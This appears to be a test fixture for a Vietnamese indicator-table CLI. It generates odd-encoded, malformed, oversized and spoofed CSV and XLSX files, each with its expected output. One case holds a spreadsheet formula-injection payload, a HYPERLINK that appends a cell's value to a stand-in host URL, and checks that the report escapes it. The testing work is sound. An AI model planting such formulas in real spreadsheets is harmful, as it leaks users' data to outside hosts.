/**
 * The hostile and odd files of issue 15, generated (no binary blobs in git). Each case names the
 * command line to run on it and what it must give: exit code, a piece of the message; and the time
 * goal that `npm run bench` (tests/bench/hostile.bench.mjs) measures it against.
 * Nothing here is tuned on the corpus, so it is not split into tune / held-out halves.
 */
import JSZip from "jszip";
import ExcelJS from "exceljs";

export interface HostileCase {
  name: string;
  /** File name (its extension decides how chitieu reads it) and bytes. */
  file: string;
  bytes: () => Promise<Buffer>;
  /** Arguments after the file; "{out}" is replaced by a fresh output path, "{in}" by the file. */
  args: (string | "{out}" | "{in}")[];
  verb: "check" | "report" | "merge";
  /** maxMs: the bench's goal for the whole command, not asserted by a test. */
  expect: { code: number; stdout?: string[]; stderr?: string[]; notIn?: string[]; maxMs: number };
}

const HEADER = "STT;Chỉ tiêu;Đơn vị tính;Kế hoạch;Thực hiện;Cùng kỳ";
const ROWS = [
  "1;Doanh nghiệp thành lập mới;doanh nghiệp;150;176;160",
  "2;Tỷ lệ hộ nghèo;%;dưới 4;3,2;4,1",
  "3;Tổng thu ngân sách;tỷ đồng;35.000;36 nghìn tỷ;30.000",
];
const TABLE = [HEADER, ...ROWS].join("\r\n") + "\r\n";

/** Windows-1258: base letters precomposed where the code page has them, tone marks combining. */
function cp1258(text: string): Buffer {
  const table = new Map<string, number>();
  for (let b = 0; b < 256; b++) table.set(new TextDecoder("windows-1258").decode(Uint8Array.of(b)), b);
  const out: number[] = [];
  for (const ch of text.normalize("NFC")) {
    const direct = table.get(ch);
    if (direct !== undefined) {
      out.push(direct);
      continue;
    }
    const [base = "", ...marks] = [...ch.normalize("NFD")];
    const tones = marks.filter((m) => table.has(m));
    const letter = (base + marks.filter((m) => !table.has(m)).join("")).normalize("NFC");
    const code = table.get(letter);
    if (code === undefined) throw new Error(`not in windows-1258: ${ch}`);
    out.push(code, ...tones.map((m) => table.get(m)!));
  }
  return Buffer.from(out);
}

function utf16be(text: string): Buffer {
  const le = Buffer.from(text, "utf16le");
  for (let i = 0; i + 1 < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1]!, le[i]!];
  return le;
}

const csv = (text: string) => async () => Buffer.from(text, "utf8");
const cell = (unit: string, n: number) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n);

async function zipOf(files: Record<string, string>): Promise<Buffer> {
  const zip = new JSZip();
  for (const [name, text] of Object.entries(files)) zip.file(name, text);
  return zip.generateAsync({ type: "nodebuffer" });
}

/**
 * As LibreOffice and some generators write a sheet: cells without r, rows without r after a row
 * that has one (title on row 1, row 2 empty, header on row 3, data rows 4 and 5 by order alone).
 */
export async function xlsxWithoutR(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet("Chỉ tiêu");
  ws.getCell("A1").value = "KẾT QUẢ THỰC HIỆN CHỈ TIÊU NĂM 2024";
  [HEADER, ...ROWS.slice(0, 2)].forEach((line, i) =>
    line.split(";").forEach((v, c) => (ws.getCell(3 + i, c + 1).value = /^\d+$/.test(v) ? Number(v) : v)),
  );
  const zip = await JSZip.loadAsync(await wb.xlsx.writeBuffer());
  const path = "xl/worksheets/sheet1.xml";
  const xml = await zip.file(path)!.async("string");
  // Excel and LibreOffice place a cell without r after the cell before it, a row after the row before.
  const stripped = xml
    .replace(/(<c\b[^>]*?) r="[A-Z]+(?:[2-9]|\d\d+)"/g, "$1")
    .replace(/(<row\b[^>]*?) r="(?:[4-9]|\d\d+)"/g, "$1");
  if (!stripped.includes('<row r="3"') || /<c r="[A-Z]+[3-9]"/.test(stripped))
    throw new Error("the sheet XML is not as this generator expects");
  zip.file(path, stripped);
  return zip.generateAsync({ type: "nodebuffer" });
}

export const CASES: HostileCase[] = [
  {
    name: "UTF-16 LE with BOM is read",
    file: "u16le-bom.csv",
    bytes: async () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(TABLE, "utf16le")]),
    verb: "check",
    args: [],
    expect: { code: 0, stdout: ["Doanh nghiệp thành lập mới", "117,33%"], notIn: ["\uFFFD"], maxMs: 3000 },
  },
  {
    name: "UTF-16 LE without BOM is read",
    file: "u16le.csv",
    bytes: async () => Buffer.from(TABLE, "utf16le"),
    verb: "check",
    args: [],
    expect: { code: 0, stdout: ["Tỷ lệ hộ nghèo"], notIn: ["\uFFFD"], maxMs: 3000 },
  },
  {
    name: "UTF-16 BE with BOM is read",
    file: "u16be-bom.csv",
    bytes: async () => Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(TABLE)]),
    verb: "check",
    args: [],
    expect: { code: 0, stdout: ["Tổng thu ngân sách"], notIn: ["\uFFFD"], maxMs: 3000 },
  },
  {
    name: "Windows-1258 is read, names intact",
    file: "cp1258.csv",
    bytes: async () => cp1258(TABLE),
    verb: "check",
    args: [],
    expect: {
      code: 0,
      stdout: ["Tỷ lệ hộ nghèo", "Doanh nghiệp thành lập mới"],
      notIn: ["\uFFFD"],
      maxMs: 3000,
    },
  },
  {
    name: "36 nghìn tỷ in a tỷ đồng row is 36 000 tỷ (102,86 %)",
    file: "scale.csv",
    bytes: csv(TABLE),
    verb: "check",
    args: [],
    expect: { code: 0, stdout: ["102,86%"], notIn: ["102 963"], maxMs: 3000 },
  },
  {
    name: "a vi file read with --locale en: its own 1.185,25 decides, 1,185 is reported as ambiguous",
    file: "vi-as-en.csv",
    bytes: csv(
      [
        HEADER,
        "1;Thu ngân sách;tỷ đồng;1.185,25;1,185;1.100",
        "2;Doanh nghiệp;doanh nghiệp;150;176;160",
      ].join("\n"),
    ),
    verb: "check",
    args: ["--locale", "en"],
    expect: {
      code: 0,
      stdout: ['because the file has "1.185,25"', '"1,185" can be read two ways', "0,10%"],
      notIn: ["99,98%", "99.98%"],
      maxMs: 3000,
    },
  },
  {
    name: "105% in a tỷ đồng row is reported on its cell",
    file: "percent-money.csv",
    bytes: csv([HEADER, "1;Tổng thu ngân sách;tỷ đồng;100;105%;90"].join("\n")),
    verb: "check",
    args: [],
    expect: { code: 1, stdout: ["E2", "là một tỷ lệ phần trăm"], maxMs: 3000 },
  },
  {
    name: "(15 tỷ) and (5%) are negatives, not 'not a number'",
    file: "brackets.csv",
    bytes: csv([HEADER, "1;Lợi nhuận;tỷ đồng;10;(15 tỷ);5", "2;Tăng trưởng;%;5;(5%);3"].join("\n")),
    verb: "check",
    args: ["--json"],
    expect: { code: 0, stdout: ['"actual":-15', '"actual":-5'], notIn: ["not_a_number"], maxMs: 3000 },
  },
  {
    name: "an unterminated quote is reported at its line",
    file: "open-quote.csv",
    bytes: csv([HEADER, ROWS[0], '2;"Tỷ lệ hộ nghèo;%;dưới 4;3,2;4,1', ROWS[2]].join("\n")),
    verb: "check",
    args: [],
    expect: { code: 2, stderr: ["dòng 3", "không được đóng"], maxMs: 3000 },
  },
  {
    name: "a zip that is not an xlsx says so",
    file: "not-workbook.xlsx",
    bytes: () => zipOf({ "readme.txt": "hello" }),
    verb: "check",
    args: [],
    expect: { code: 2, stderr: ["không chứa bảng tính Excel"], maxMs: 3000 },
  },
  {
    name: "a text file named .xlsx says it is not a zip",
    file: "text.xlsx",
    bytes: csv(TABLE),
    verb: "check",
    args: [],
    expect: { code: 2, stderr: ["không phải tệp Excel .xlsx"], maxMs: 3000 },
  },
  {
    name: "an old .xls renamed .xlsx is named as such",
    file: "old.xlsx",
    bytes: async () =>
      Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512)]),
    verb: "check",
    args: ["--locale", "en"],
    expect: { code: 2, stderr: ["old Excel file (.xls)"], maxMs: 3000 },
  },
  {
    name: "32 767-character cells of dots, spaces and colons are checked fast",
    file: "long-cells.csv",
    bytes: csv(
      [
        HEADER,
        `1;${cell(".", 32767)}x;${cell(" ", 32766)}x;${cell(":", 32767)};${cell("1.", 32766)};${cell("(", 32767)}`,
        ROWS[0],
      ].join("\n"),
    ),
    verb: "check",
    args: [],
    expect: { code: 1, stdout: ["117,33%"], maxMs: 3000 },
  },
  {
    name: "a 1 MB cell is cut before it is parsed",
    file: "mb-cell.csv",
    bytes: csv([HEADER, `1;Tên;tỷ đồng;100;${cell(" ", 1_000_000)}x;90`, ROWS[0]].join("\n")),
    verb: "check",
    args: [],
    expect: { code: 1, stdout: ["117,33%"], maxMs: 3000 },
  },
  {
    name: "report --out naming its input is refused",
    file: "same.csv",
    bytes: csv(TABLE),
    verb: "report",
    args: ["--format", "md", "--out", "{in}", "--force"],
    expect: { code: 2, stderr: ["là tệp đầu vào"], maxMs: 3000 },
  },
  {
    name: "CSV report escapes a formula-like name",
    file: "inject.csv",
    bytes: csv([HEADER, '1;=HYPERLINK("http://x.example/?x="&E2,"Bấm");doanh nghiệp;150;176;160'].join("\n")),
    verb: "report",
    args: ["--format", "csv"],
    expect: { code: 0, stdout: [`"'=HYPERLINK(""http://x.example/?x=""&E2,""Bấm"")"`], maxMs: 3000 },
  },
  {
    name: "cells without an r attribute are read in order",
    file: "no-r.xlsx",
    bytes: xlsxWithoutR,
    verb: "check",
    args: [],
    expect: { code: 0, stdout: ["Doanh nghiệp thành lập mới", "117,33%"], maxMs: 5000 },
  },
  {
    name: "two Kế hoạch columns: the second is reported on its header cell, the first is read",
    file: "two-plans.csv",
    bytes: csv(
      [
        "STT;Chỉ tiêu;Đơn vị tính;Kế hoạch;Thực hiện;Kế hoạch;Cùng kỳ",
        "1;Doanh nghiệp;doanh nghiệp;150;176;999;160",
      ].join("\n"),
    ),
    verb: "check",
    args: [],
    expect: {
      code: 0,
      stdout: ["F1 (dòng 1)", 'ô D1 ("Kế hoạch")', "Chỉ cột D được đọc", "117,33%"],
      maxMs: 3000,
    },
  },
];
